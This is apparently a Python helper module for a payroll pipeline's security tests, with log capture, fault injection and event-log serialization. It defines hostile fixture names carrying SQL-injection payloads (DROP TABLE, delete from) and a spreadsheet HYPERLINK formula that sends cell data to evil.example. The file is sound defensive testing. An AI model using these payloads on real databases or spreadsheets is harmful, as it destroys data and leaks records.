"""The security suite's helpers: hostile and formula-like names, DEBUG log capture, a sync made to
fail, the event log as text, and the record (`Secured`) the leak, access and injection tests read."""

from __future__ import annotations

import contextlib
import dataclasses
import io
import logging
from dataclasses import dataclass, field

from pipelines.lib.logs import configure_logging
from tests.support.pipeline import Pipeline

HOSTILE_COMPANY = 'Robert\'); DROP TABLE nmbrs.companies; -- \\N \t "x" $$ ; select 1'
HOSTILE_LAST_NAME = "O'Neil\"; delete from nmbrs.employees; --\\"
FORMULA_COMPANY = '=HYPERLINK("http://evil.example/?x="&A2,"Klik hier")'  # what a spreadsheet would run
FORMULA_COMPANY_ID = 102


@dataclass
class Secured:
    pipeline: Pipeline
    logs: str
    events: str
    exceptions: str
    secrets: dict[str, str]
    bsns: set[str]
    birth_dates: set[str]
    hostile_company_id: int
    hostile_employee: tuple[int, int]
    run_ids: list[str] = field(default_factory=list)

    @property
    def sandbox(self):
        return self.pipeline.sandbox


def make_names_hostile(sandbox) -> tuple[int, tuple[int, int]]:
    """Give company 103 and one of its employees names full of quotes, semicolons and COPY escapes,
    and company 102 a name that is a spreadsheet formula."""
    world = sandbox.state.world
    world._companies[FORMULA_COMPANY_ID] = dataclasses.replace(
        world.company(FORMULA_COMPANY_ID), name=FORMULA_COMPANY
    )
    company = world.company(103)
    world._companies[103] = dataclasses.replace(company, name=HOSTILE_COMPANY)
    employees = world.employees(103)
    employees[0] = dataclasses.replace(employees[0], last_name=HOSTILE_LAST_NAME)
    return 103, (103, employees[0].number)  # the warehouse keys employees by their employee number


class capture_debug_logs:  # noqa: N801 - used as a context manager, reads like one
    """The pipeline's logging as `payroll` sets it up (PAYROLL_LOG_LEVEL=DEBUG), into one buffer, with
    stderr (Dagster's console log) redirected there too. zeep.transports is included: the product
    holds it at INFO."""

    def __init__(self, pipeline: Pipeline):
        self.pipeline = pipeline

    def __enter__(self) -> io.StringIO:
        self.buffer = io.StringIO()
        root = logging.getLogger()
        self.saved = (root.level, list(root.handlers))
        with self.pipeline.active():
            assert configure_logging(stream=self.buffer) == "DEBUG"
        self.stderr = contextlib.redirect_stderr(self.buffer)
        self.stderr.__enter__()
        return self.buffer

    def __exit__(self, *exc) -> None:
        self.stderr.__exit__(*exc)
        root = logging.getLogger()
        root.setLevel(self.saved[0])
        root.handlers[:] = self.saved[1]


def failing_sync(pipeline: Pipeline):
    """A sync through error paths: a connection reset on the company list (retried), then every REST
    runs call refused with 401 (one refresh, then the partition fails with its traceback)."""
    faults = pipeline.sandbox.state.faults
    faults.inject("rest:companies", "reset")
    faults.inject("rest:runs", "401", times=None)
    try:
        result = pipeline.sync(companies=[101], include_dbt=False, full_refresh=True)
    finally:
        faults.clear()
    assert not result.success, "the failing sync was meant to fail"
    return result


def event_log_text(pipeline: Pipeline, steps) -> tuple[str, list[str]]:
    """The serialized text of every event record (messages, metadata, errors) of the sync's runs."""
    import dagster as dg
    from dagster._serdes import serialize_value

    run_ids = [step.run_id for step in steps if step.run_id]
    parts = []
    with pipeline.active(), dg.DagsterInstance.get() as instance:
        for run in instance.get_runs():
            run_ids.append(run.run_id)
            parts.append(serialize_value(run))
            for entry in instance.all_logs(run.run_id):
                parts.append(serialize_value(entry))
    return "\n".join(parts), sorted(set(run_ids))
